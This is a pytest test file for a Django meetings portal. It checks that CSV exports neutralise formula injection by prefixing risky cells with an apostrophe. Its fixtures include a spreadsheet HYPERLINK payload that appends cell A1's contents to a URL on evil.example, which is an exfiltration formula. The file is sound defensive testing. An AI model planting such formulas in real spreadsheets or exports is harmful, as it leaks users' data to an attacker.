"""CSV files that a spreadsheet cannot turn into code (OWASP's CSV injection rule): every cell of every CSV the
portal makes that starts with =, +, -, @, a tab or a carriage return is written after an apostrophe."""

import csv
import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse

from meetings.models import AnnualPlanEntry, Position
from meetings.services import positions as services
from meetings.spreadsheets import spreadsheet_cell

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?"&A1;"Klicka")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_compute_is_text(start):
    assert spreadsheet_cell(f"{start}1+2") == f"'{start}1+2"


@pytest.mark.parametrize("value", ["SRO ställer sig bakom", "2031-03-04", 42, "", None, "a=1+2"])
def test_any_other_cell_is_unchanged(value):
    assert spreadsheet_cell(value) == value


@pytest.fixture
def hostile(demo, secretary):
    matter = services.matter_for_title(body=demo, title="=1+2")
    return services.position_record(body=demo, how=Position.How.PER_CAPSULAM, taken_on=datetime.date(2031, 3, 4),
                                    text=LINK, matter=matter, by=secretary)  # fmt: skip


def test_the_public_positions_csv_has_no_formula(hostile):
    content = Client().get(reverse("public:positions_csv", kwargs={"year": 2031})).content.decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(content)) if r["id"] == str(hostile.pk))
    assert row["ärende"] == "'=1+2" and row["ställningstagande"] == "'" + LINK
    # The JSON is for programs, not spreadsheets: the text as it is.
    data = Client().get(reverse("public:positions_json", kwargs={"year": 2031})).json()
    assert any(p["ställningstagande"] == LINK for p in data["ställningstaganden"])


def test_the_archives_csv_files_have_no_formula(demo, hostile, tmp_path):
    from archive.package import write_package

    AnnualPlanEntry.objects.create(body=demo, year=2031, quarter=2, topic="@SUMMA(A1:A9)")
    package = write_package(body=demo, year=2031, into=tmp_path)
    data = next(package.root.rglob("stallningstaganden-2031.csv")).read_text(encoding="utf-8")
    row = next(r for r in csv.DictReader(io.StringIO(data)) if r["id"] == str(hostile.pk))
    assert row["ärende"] == "'=1+2" and row["ställningstagande"] == "'" + LINK
    plan = next(package.root.rglob("arshjul-2031.csv")).read_text(encoding="utf-8")
    assert [r["ämne"] for r in csv.DictReader(io.StringIO(plan))] == ["'@SUMMA(A1:A9)"]
